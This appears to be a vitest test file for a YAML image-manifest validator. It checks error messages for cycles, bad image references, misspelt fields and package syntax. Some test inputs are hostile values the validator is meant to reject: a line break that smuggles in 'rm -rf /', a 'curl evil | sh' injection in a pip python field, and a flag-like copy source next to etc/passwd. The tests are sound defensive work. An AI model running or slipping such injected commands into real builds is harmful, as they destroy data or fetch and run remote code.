import { describe, expect, test } from 'vitest';
import { problemsOf, yaml } from '../helpers.js';

const IMAGE_FIELDS =
  'description, base, from, extends, layers, args, env, labels, workdir, user, entrypoint, cmd, expose, volumes, context, source, variants, stages, tests, lint';
const BUILD_TIME_ONLY =
  'is passed at build time and cannot be used here; it can be used in base, env, labels, args, run commands, pip packages, the python and pip of a miniconda layer, and image tests; the mlrun layer writes MLRUN_VERSION into the version file of the source it installs';
const PIP_REQUIREMENT_FORM =
  'expected NAME[extras] with optional version specifiers (==1.2, ~=1.2, >=1,<2), a URL (NAME @ https://…) and a marker (; python_version < "3.10")';

interface InvalidManifest {
  mistake: string;
  manifest: string;
  problems: string[];
}

const invalidManifests: InvalidManifest[] = [
  {
    mistake: 'from names an image that is not in the manifest',
    manifest: yaml('version: 1', 'images:', '  base-image:', '    base: python:3.9-slim', '  child:', '    from: base-imag'),
    problems: [
      'images.yaml:6:11: image `child` is built from `base-imag`, which is not an image of this manifest (did you mean `base-image`?); for an external image use `base`',
    ],
  },
  {
    mistake: 'extends names an image that is not in the manifest',
    manifest: yaml('version: 1', 'images:', '  common:', '    base: python:3.9-slim', '  app:', '    base: python:3.10-slim', '    extends: comon'),
    problems: ['images.yaml:7:14: image `app` extends `comon`, which is not an image of this manifest (did you mean `common`?)'],
  },
  {
    mistake: 'two images extend each other',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    extends: b', '  b:', '    base: python:3.9-slim', '    extends: a'),
    problems: ['images.yaml:5:14: `extends` forms a cycle: a → b → a'],
  },
  {
    mistake: 'three images are built from each other',
    manifest: yaml('version: 1', 'images:', '  a:', '    from: c', '  b:', '    from: a', '  c:', '    from: b'),
    problems: ['images.yaml:4:11: `from` forms a cycle: a → c → b → a'],
  },
  {
    mistake: 'an image is built from itself',
    manifest: yaml('version: 1', 'images:', '  a:', '    from: a'),
    problems: ['images.yaml:4:11: `from` forms a cycle: a → a'],
  },
  {
    mistake: 'an image has both base and from',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '  b:', '    base: python:3.9-slim', '    from: a'),
    problems: [
      'images.yaml:7:11: image `b` has both `base` (python:3.9-slim) and `from` (a); keep one: `base` for an external image, `from` for an image of this manifest',
    ],
  },
  {
    mistake: 'an image has neither base nor from',
    manifest: yaml('version: 1', 'images:', '  a:', '    description: nothing to build on'),
    problems: [
      'images.yaml:3:3: image `a` has neither `base` nor `from`; set `base` to an external image (python:3.9-slim) or `from` to an image of this manifest',
    ],
  },
  {
    mistake: 'the base has a tag starting with a dash',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:-3.9'),
    problems: [
      'images.yaml:4:11: invalid image reference `python:-3.9` in the base of image `a`: the tag `-3.9` is invalid: up to 128 letters, digits, _ . -, not starting with . or -',
    ],
  },
  {
    mistake: 'the base has an uppercase repository path',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: library/Python:3.9'),
    problems: [
      'images.yaml:4:11: invalid image reference `library/Python:3.9` in the base of image `a`: the repository path component `Python` is invalid: lowercase letters and digits, separated by . _ __ or -',
    ],
  },
  {
    mistake: 'the base has a digest that is too short',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python@sha256:abc123'),
    problems: [
      'images.yaml:4:11: invalid image reference `python@sha256:abc123` in the base of image `a`: the digest `sha256:abc123` is not ALGORITHM:HEX (sha256:…, at least 32 hex digits)',
    ],
  },
  {
    mistake: 'the base has a registry port that is not a number',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: localhost:50x0/python:3.9'),
    problems: ['images.yaml:4:11: invalid image reference `localhost:50x0/python:3.9` in the base of image `a`: the registry port `50x0` is not a number'],
  },
  {
    mistake: 'an image name has uppercase letters',
    manifest: yaml('version: 1', 'images:', '  My_Image:', '    base: python:3.9-slim'),
    problems: ['images.yaml:3:3: `My_Image` is not a valid image name: lowercase letters and digits, separated by . _ or -'],
  },
  {
    mistake: 'an apt package name has uppercase letters',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - apt:',
      '          packages:',
      '            - curl',
      '            - Libssl-dev',
    ),
    problems: ['images.yaml:9:15: invalid apt package `Libssl-dev`: expected NAME or NAME=VERSION (lowercase letters, digits and + . -)'],
  },
  {
    mistake: 'a pip requirement pins with a single =',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - pip:',
      '          packages:',
      '            - numpy=1.26',
    ),
    problems: [`images.yaml:8:15: invalid pip requirement \`numpy=1.26\`: ${PIP_REQUIREMENT_FORM}`],
  },
  {
    mistake: 'a key appears twice in an image',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    base: python:3.10-slim'),
    problems: ['images.yaml:5:5: duplicate key `base`: each key may appear once in a mapping'],
  },
  {
    mistake: 'a reference names an undeclared variable',
    manifest: yaml(
      'version: 1',
      'variables:',
      '  PYTHON_VERSION: "3.9"',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    env:',
      '      PY: ${PYTON_VERSION}',
    ),
    problems: ['images.yaml:8:11: undefined variable `PYTON_VERSION` (did you mean `PYTHON_VERSION`?): declare it under `variables:`'],
  },
  {
    mistake: 'a layer kind is misspelt',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - atp:', '          packages: [curl]'),
    problems: ['images.yaml:6:9: unknown layer kind `atp` (did you mean `apt`?); add templates/layers/atp.hbs to define it'],
  },
  {
    mistake: 'a layer has two kinds',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - apt:',
      '          packages: [curl]',
      '        pip:',
      '          packages: [numpy]',
    ),
    problems: ['images.yaml:6:9: layer 1 of image `a` has several kinds (`apt`, `pip`); write each as its own list item'],
  },
  {
    mistake: 'a layer is empty',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - {}'),
    problems: ['images.yaml:6:9: layer 1 of image `a` is empty: write its kind as the key, e.g. `- apt: {packages: [curl]}`'],
  },
  {
    mistake: 'an image field is misspelt',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    envv:', '      A: b'),
    problems: [`images.yaml:5:5: unknown field \`envv\` in image \`a\` (did you mean \`env\`?); expected one of: ${IMAGE_FIELDS}`],
  },
  {
    mistake: 'the format version is not 1',
    manifest: yaml('version: 2', 'images:', '  a:', '    base: python:3.9-slim'),
    problems: ['images.yaml:1:10: `version`: expected `1`, got number `2`'],
  },
  {
    mistake: 'a run command holds a line break',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - run:',
      '          commands:',
      '            - "echo ok\\nrm -rf /"',
    ),
    problems: ['images.yaml:8:15: line breaks and other control characters are not allowed in values; write one item per list entry'],
  },
  {
    mistake: 'a run command ends with a backslash',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - run:', '          commands:', '            - make \\'),
    problems: ['images.yaml:8:15: a run command may not end with a backslash: write each command as its own list item'],
  },
  {
    mistake: 'a run command holds a comment that would hide the commands after it',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - run:',
      '          commands:',
      '            - "make build # the build"',
      '            - rm -rf /tmp/cache',
    ),
    problems: ['images.yaml:8:15: a run command may not hold a # comment: it would hide the commands joined after it; put comments in the YAML'],
  },
  {
    mistake: 'a copy source that would be read as a COPY flag',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - copy: {src: ["--from=alpine:3", etc/passwd], dest: /x}',
    ),
    problems: ['images.yaml:6:22: copy source `--from=alpine:3` must be a path relative to the build context, without ..'],
  },
  {
    mistake: 'a python command for pip that is not a command',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - pip: {python: "python; curl evil | sh", packages: [requests]}',
    ),
    problems: ['images.yaml:6:23: python `python; curl evil | sh` must be a command name or path (letters, digits and . _ / + -)'],
  },
  {
    mistake: 'a stage env name with a space',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    stages:',
      '      - name: build',
      '        base: node:20',
      '        env: {"A B": "1"}',
    ),
    problems: ['images.yaml:8:15: `A B` is not a valid environment variable name (letters, digits and _, not starting with a digit)'],
  },
  {
    mistake: 'two stage names that would share a build argument',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    stages:',
      '      - {name: a-b, base: node:20}',
      '      - {name: a.b, base: alpine:3}',
    ),
    problems: ['images.yaml:7:16: stage names `a-b` and `a.b` would share the build argument A_B_BASE_IMAGE; rename one'],
  },
  {
    mistake: 'a variable in a key',
    manifest: yaml('version: 1', 'variables:', '  SUFFIX: ""', 'images:', '  app${SUFFIX}:', '    base: python:3.9-slim'),
    problems: ['images.yaml:5:3: `app${SUFFIX}`: variables cannot be used in keys; names must be known as written'],
  },
  {
    mistake: 'a run command starts a heredoc',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - run:',
      '          commands:',
      '            - cat <<EOF > /etc/motd',
    ),
    problems: ['images.yaml:8:15: a run command may not open a heredoc (<<WORD): it would swallow the lines after it; put the text in a file and copy it'],
  },
  {
    mistake: 'a release variable is used in a description',
    manifest: yaml('version: 1', 'images:', '  a:', '    description: MLRun ${MLRUN_VERSION}', '    base: python:3.9-slim'),
    problems: [`images.yaml:4:18: \`MLRUN_VERSION\` ${BUILD_TIME_ONLY}`],
  },
  {
    mistake: 'a release variable is used in cmd',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    cmd: [mlrun, "--repo=${MLRUN_DOCKER_REPO}"]'),
    problems: [`images.yaml:5:18: \`MLRUN_DOCKER_REPO\` ${BUILD_TIME_ONLY}`],
  },
  {
    mistake: 'a variable default is a YAML number',
    manifest: yaml('version: 1', 'variables:', '  PYTHON_VERSION: 3.9', 'images:', '  a:', '    base: python:${PYTHON_VERSION}-slim'),
    problems: ['images.yaml:3:19: variable `PYTHON_VERSION`: expected a string, got number `3.9` (write it in quotes: "3.9")'],
  },
  {
    mistake: 'a copy layer names a stage that does not exist',
    manifest: yaml(
      'version: 1',
      'images:',
      '  a:',
      '    base: python:3.9-slim',
      '    stages:',
      '      - name: builder',
      '        base: golang:1.22',
      '    layers:',
      '      - copy:',
      '          from: buidler',
      '          src: /out/app',
      '          dest: /usr/local/bin/app',
    ),
    problems: ['images.yaml:10:17: copy from `buidler`: no such stage before this layer in image `a` (did you mean `builder`?)'],
  },
  {
    mistake: 'a pip layer has neither requirements nor packages',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - pip:', '          python: python3'),
    problems: ['images.yaml:7:11: pip layer of image `a` needs `requirements` (files) or `packages` (specifiers)'],
  },
  {
    mistake: 'an openmpi layer has no version',
    manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    layers:', '      - openmpi:', '          cuda: true'),
    problems: ['images.yaml:7:11: openmpi layer of image `a` is missing `version` (needed unless `source: apt`)'],
  },
  {
    mistake: 'several images have meaning problems, written out of the order they are checked in',
    manifest: yaml(
      'version: 1',
      'images:',
      '  base:',
      '    base: python:3.9-slim',
      '    layers:',
      '      - apt:',
      '          packages: [Curl]',
      '  web:',
      '    from: bse',
      '    workdir: relative/dir',
    ),
    problems: [
      'images.yaml:7:22: invalid apt package `Curl`: expected NAME or NAME=VERSION (lowercase letters, digits and + . -)',
      'images.yaml:9:11: image `web` is built from `bse`, which is not an image of this manifest (did you mean `base`?); for an external image use `base`',
      'images.yaml:10:14: workdir `relative/dir` must be an absolute path of letters, digits and . _ / @ + -',
    ],
  },
  {
    mistake: 'one image has several shape problems',
    manifest: yaml('version: 2', 'images:', '  a:', '    base: python:3.9-slim', '    envv: {A: b}', '    layers:', '      - {}'),
    problems: [
      'images.yaml:1:10: `version`: expected `1`, got number `2`',
      `images.yaml:5:5: unknown field \`envv\` in image \`a\` (did you mean \`env\`?); expected one of: ${IMAGE_FIELDS}`,
      'images.yaml:7:9: layer 1 of image `a` is empty: write its kind as the key, e.g. `- apt: {packages: [curl]}`',
    ],
  },
];

const asRows = (cases: InvalidManifest[]) => cases.map(({ mistake, manifest, problems }) => [mistake, manifest, problems] as const);

test.each(asRows(invalidManifests))('%s', (_mistake, manifest, problems) => {
  expect(problemsOf(manifest)).toEqual(problems);
});

describe('a mistake is reported once, not again by the checks that read the value it spoilt', () => {
  const cascades: InvalidManifest[] = [
    {
      mistake: 'extends names a missing image, so the child inherits no base',
      manifest: yaml('version: 1', 'images:', '  common:', '    base: python:3.9-slim', '  app:', '    extends: comon'),
      problems: ['images.yaml:6:14: image `app` extends `comon`, which is not an image of this manifest (did you mean `common`?)'],
    },
    {
      mistake: 'images in an extends cycle inherit no base',
      manifest: yaml('version: 1', 'images:', '  a:', '    extends: b', '  b:', '    extends: a'),
      problems: ['images.yaml:4:14: `extends` forms a cycle: a → b → a'],
    },
    {
      mistake: 'an undefined variable in base leaves `${…}` in the reference',
      manifest: yaml('version: 1', 'variables:', '  PYTHON_VERSION: "3.9"', 'images:', '  a:', '    base: python:${PYTON_VERSION}-slim'),
      problems: ['images.yaml:6:11: undefined variable `PYTON_VERSION` (did you mean `PYTHON_VERSION`?): declare it under `variables:`'],
    },
    {
      mistake: 'a release variable in workdir',
      manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '    workdir: /opt/${MLRUN_VERSION}'),
      problems: [`images.yaml:5:14: \`MLRUN_VERSION\` ${BUILD_TIME_ONLY}`],
    },
    {
      mistake: 'a release variable in from',
      manifest: yaml('version: 1', 'images:', '  a:', '    base: python:3.9-slim', '  b:', '    from: a-${MLRUN_VERSION}'),
      problems: [`images.yaml:6:11: \`MLRUN_VERSION\` ${BUILD_TIME_ONLY}`],
    },
  ];

  test.each(asRows(cascades))('%s', (_mistake, manifest, problems) => {
    expect(problemsOf(manifest)).toEqual(problems);
  });
});

test('the quoting hint for a YAML number repeats the number as written, not as YAML read it (3.10, not 3.1)', () => {
  const problems = problemsOf(yaml('version: 1', 'variables:', '  PYTHON_VERSION: 3.10', 'images:', '  a:', '    base: python:${PYTHON_VERSION}-slim'));
  expect(problems).toHaveLength(1);
  expect(problems[0]).toMatch(/^images\.yaml:3:19: /);
  expect(problems[0]).toContain('got number `3.10` (write it in quotes: "3.10")');
});

test('a shape problem and an undefined variable are reported together', () => {
  expect(problemsOf(yaml('version: 1', 'images:', '  a:', '    base: python:${PYTON}-slim', '    envv: {A: "1"}'))).toEqual([
    'images.yaml:4:11: undefined variable `PYTON`: declare it under `variables:`',
    'images.yaml:5:5: unknown field `envv` in image `a` (did you mean `env`?); expected one of: description, base, from, extends, layers, args, env, labels, workdir, user, entrypoint, cmd, expose, volumes, context, source, variants, stages, tests, lint',
  ]);
});

test('a problem inside a stage names the stage', () => {
  expect(
    problemsOf(
      yaml(
        'version: 1',
        'images:',
        '  a:',
        '    base: python:3.9-slim',
        '    stages:',
        '      - name: build',
        '        base: node:20',
        '        layers:',
        '          - apt: {}',
      ),
    ),
  ).toEqual(['images.yaml:9:18: apt layer of stage 1 of image `a` is missing `packages`']);
});
